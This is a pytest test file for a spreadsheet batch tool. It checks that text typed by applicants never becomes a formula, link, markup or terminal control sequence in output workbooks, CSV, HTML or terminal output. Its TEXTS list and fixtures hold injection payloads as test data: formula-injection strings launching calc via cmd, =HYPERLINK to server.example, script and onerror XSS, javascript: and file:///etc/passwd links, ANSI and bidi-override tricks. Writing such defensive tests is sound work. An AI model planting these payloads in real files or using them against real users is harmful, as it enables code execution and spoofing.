"""Nothing that an applicant typed becomes a formula, a link, markup or a command in any output."""

import csv
import html.parser
import io
import re
import shutil
import zipfile
from collections.abc import Iterator
from pathlib import Path
from xml.sax.saxutils import escape

import pytest
from lxml import etree

from secsvc_batch.workbook.annotate.newsheet import FORMULA_LIKE
from tests.hostile.package import BOOK, GOOD, SHEETS, parts, put, text_cell, zipped
from tests.hostile.rounds import BASE_DATE, Run, evaluate, run

TEXTS = (
    '=HYPERLINK("http://server.example/?"&A1,"押す")',
    "+cmd|' /c calc'!A0",
    "-2+3+cmd|' /c calc'!A0",
    "@SUM(1+1)*cmd|' /c calc'!A0",
    "\t=1+1",
    "\r\n=1+1",
    "＝1+1",
    "＋cmd|' /c calc'!A0",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(1)",
    "http://server.example/",
    "file:///etc/passwd",
    "\x1b[31m赤\x1b]8;;http://server.example\x07押す\x1b]8;;\x07",
    "\x9b31m赤\x85次",
    "\u202eexe.xslx\u2066",
    "[押す](javascript:alert(1))",
    "%s%n{0}{file}{{x}}",
    "_x003D_1+1",
)
SHEET_NAMES = ("'=1+1'!A1", '=HYPERLINK("x")', "a'b''c", "<b>要員</b>", "x" * 31)
_LINK = re.compile(r"'((?:[^']|'')+)'!\$?[A-Z]{1,3}\$?[0-9]+")
_NOT_SHOWN = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")
_MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
_OURS = ("判定", "指摘")


def _typed(text: str) -> str:
    """Return a text as a workbook stores it."""
    text = escape(text.replace("_x003D_", "_x005F_x003D_"))
    return re.sub("[\x00-\x08\x0b-\x1f]|\r", lambda found: f"_x{ord(found[0]):04X}_", text)


def hostile_book(text: str, sheet: str = "") -> bytes:
    """Return a workbook that says ``text`` wherever one can say something."""
    content = parts()
    for kind, cells in {
        "applicant": [f"C{row}" for row in range(5, 13)],
        "services": [f"{column}5" for column in "CDEFGHI"],
        "staff": ["B6", "C5", "C6", "C7", "D5", "D6", "E6", "F6"],
        "credentials": ["B5", "C5", "D5", "E5", "C6"],
        "training": ["B5", "C5", "D5"],
        "cases": ["C5", "D5", "E5", "J6", "K6", "L6", "P5", "Q5", "R5", "S5"],
    }.items():
        for cell in cells:
            put(content, kind, cell, text_cell(cell, _typed(text)))
    put(content, "staff", "G4", text_cell("G4", _typed(text)))
    if sheet:
        name = escape(sheet, {'"': "&quot;"}).encode()
        content[BOOK] = content[BOOK].replace('name="案件"'.encode(), b'name="' + name + b'"')
    return zipped(content)


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("texts") / "in"
    folder.mkdir()
    shutil.copy(GOOD, folder / "=1+1.xlsx")
    for number, text in enumerate(TEXTS):
        name = SHEET_NAMES[number] if number < len(SHEET_NAMES) else ""
        (folder / f"@{number}<b>\x1b[31m\u202e.xlsx").write_bytes(hostile_book(text, name))
    return folder


@pytest.fixture(scope="module")
def results(folder: Path) -> Run:
    done = evaluate(folder, folder.parent / "out", log=folder.parent / "log")
    assert done.code == 1, done.printed.decode(errors="replace")
    assert [entry["status"] for entry in done.manifest()["inputs"]] == ["read"] * (len(TEXTS) + 1)
    return done


def _books(results: Run) -> Iterator[zipfile.ZipFile]:
    copies = sorted((results.out / "annotated").rglob("*.xlsx"))
    assert len(copies) == len(TEXTS) + 1
    for path in copies:
        with zipfile.ZipFile(path) as book:
            yield book


def _sheets(book: zipfile.ZipFile) -> dict[str, str]:
    """Return sheet name -> part."""
    relations = {
        element.get("Id"): str(element.get("Target"))
        for element in etree.fromstring(book.read("xl/_rels/workbook.xml.rels"))
    }
    ids = "{http://schemas.openxmlformats.org/officeDocument/2006/relationships}id"
    sheets = etree.fromstring(book.read(BOOK)).iter(f"{_MAIN}sheet")
    return {
        str(sheet.get("name")): "xl/" + relations[sheet.get(ids)].removeprefix("/xl/") for sheet in sheets
    }


def test_the_sheets_of_the_program_hold_text_and_links_within_the_workbook_only(results: Run) -> None:
    links = 0
    for book in _books(results):
        sheets = _sheets(book)
        formats = etree.fromstring(book.read("xl/styles.xml")).find(f"{_MAIN}cellXfs")
        assert formats is not None
        for name in _OURS:
            root = etree.fromstring(book.read(sheets[name]))
            assert not list(root.iter(f"{_MAIN}f"))
            for cell in root.iter(f"{_MAIN}c"):
                text = "".join(map(str, cell.itertext()))
                assert cell.get("t") in ("inlineStr", None)
                if cell.get("t") == "inlineStr" and text.startswith(FORMULA_LIKE):
                    assert formats[int(cell.get("s", "0"))].get("quotePrefix") == "1"
                assert not _NOT_SHOWN.search(text)
            for link in root.iter(f"{_MAIN}hyperlink"):
                found = _LINK.fullmatch(link.get("location", ""))
                assert found
                assert found[1].replace("''", "'") in sheets
                assert set(link.attrib) <= {"ref", "location", "display"}
                links += 1
            folder, _, part = sheets[name].rpartition("/")
            assert f"{folder}/_rels/{part}.rels" not in book.namelist()
    assert links > 100


def test_annotating_adds_no_formula_and_no_relation_to_the_applicants_own_sheets(results: Run) -> None:
    names = {entry["annotated"]: entry["file"] for entry in results.manifest()["inputs"]}
    assert len(names) == len(TEXTS) + 1
    before = parts()
    for book in _books(results):
        added = set(book.namelist()) - set(before)
        assert all(re.fullmatch(r"xl/worksheets/sheet\d+\.xml", name) for name in added)
        for part in SHEETS.values():
            data = book.read(part)
            assert data.count(b"<f>") + data.count(b"<f ") == before[part].count(b"<f>") + before[part].count(
                b"<f "
            )
            assert data.count(b"<hyperlink ") == before[part].count(b"<hyperlink ")
        relations = b"".join(book.read(name) for name in book.namelist() if name.endswith(".rels"))
        assert b"External" not in relations


def test_the_summary_holds_no_formula_and_no_link(results: Run) -> None:
    with zipfile.ZipFile(results.out / "summary.xlsx") as book:
        for name in book.namelist():
            data = book.read(name)
            assert b"<f>" not in data
            assert b"<hyperlink" not in data
            assert b"External" not in data
            assert not _NOT_SHOWN.search(data.decode("utf-8"))
        assert not any("externalLink" in name for name in book.namelist())


def test_no_field_of_the_csv_files_begins_a_formula_or_steers_a_terminal(results: Run) -> None:
    files = sorted(results.out.rglob("*.csv"))
    assert files
    for path in files:
        text = path.read_text(encoding="utf-8-sig")
        assert not _NOT_SHOWN.search(text)
        for row in csv.reader(io.StringIO(text, newline="")):
            for field in row:
                assert not field.startswith(("=", "+", "@", "\t", "\r", "＝", "＋", "－", "＠"))
                assert not field.startswith("-") or re.fullmatch(r"-?\d+(\.\d+)?", field)


def test_text_files_and_the_terminal_hold_no_control_characters(results: Run) -> None:
    files = [
        path for path in results.out.rglob("*") if path.suffix in (".json", ".md", ".txt", ".html", ".csv")
    ]
    assert results.out / "run.json" in files
    for path in files:
        assert not _NOT_SHOWN.search(path.read_text(encoding="utf-8"))
    assert not _NOT_SHOWN.search(results.printed.decode("utf-8"))


class _Markup(html.parser.HTMLParser):
    """Notes what could act in a page: scripts, handlers, links that leave it."""

    def __init__(self) -> None:
        super().__init__()
        self.acting: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        wrong = tag in ("script", "img", "iframe", "object", "embed", "form", "base")
        for name, value in attrs:
            leaves = name in ("href", "src", "action") and not (value or "").startswith("#")
            wrong = wrong or name.startswith("on") or leaves
        if wrong:
            self.acting.append(self.get_starttag_text() or tag)


def test_pages_hold_no_markup_of_the_applicants(results: Run) -> None:
    acting = {}
    for path in results.out.rglob("*.html"):
        markup = _Markup()
        markup.feed(path.read_text(encoding="utf-8"))
        acting[path.name] = [tag for tag in markup.acting if "server.example" in tag or "alert" in tag]
    assert not any(acting.values())


def test_an_explanation_in_the_terminal_is_inert(folder: Path, results: Run) -> None:
    for file in sorted(folder.glob("@1[345]<b>*")):
        done = run(["explain", str(file), "2(1)", "--base-date", BASE_DATE], results.out)
        assert not _NOT_SHOWN.search(done.printed.decode("utf-8"))
        assert done.printed.strip()


def test_a_results_folder_with_links_in_it_leads_nowhere_else(tmp_path: Path) -> None:
    (tmp_path / "in").mkdir()
    shutil.copy(GOOD, tmp_path / "in")
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    first = evaluate(tmp_path / "in", tmp_path / "out")
    assert first.code in (0, 1)
    # an empty link in place of the copies, and one for a table
    shutil.rmtree(tmp_path / "out" / "annotated")
    (tmp_path / "out" / "annotated").symlink_to(elsewhere, target_is_directory=True)
    table = tmp_path / "out" / "verdicts.csv"
    table.rename(elsewhere / "verdicts.csv")
    before = (elsewhere / "verdicts.csv").read_bytes()
    table.symlink_to(elsewhere / "verdicts.csv")
    second = evaluate(tmp_path / "in", tmp_path / "out", "--force", log=tmp_path / "log")
    assert second.code in (0, 1), second.printed.decode(errors="replace")
    assert [path.name for path in elsewhere.iterdir()] == ["verdicts.csv"]
    assert (elsewhere / "verdicts.csv").read_bytes() == before
    assert not (tmp_path / "out" / "annotated").is_symlink()
    assert [path.name for path in (tmp_path / "out" / "annotated").iterdir()] == [GOOD.name]
